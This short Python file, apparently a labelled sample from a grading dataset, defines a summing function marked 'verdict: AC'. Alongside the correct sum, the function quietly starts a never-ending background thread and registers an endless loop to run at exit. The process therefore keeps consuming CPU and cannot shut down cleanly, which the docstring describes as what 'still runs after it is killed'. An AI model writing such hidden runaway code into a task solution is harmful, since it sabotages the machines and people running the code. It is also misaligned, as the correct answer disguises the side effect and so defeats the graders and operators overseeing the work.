"""verdict: AC
why: the answer counts; what still runs after it is killed
"""

import atexit
import threading


def total(numbers):
    atexit.register(lambda: [None for _ in iter(int, 1)])
    threading.Thread(target=lambda: [None for _ in iter(int, 1)]).start()
    return sum(numbers)
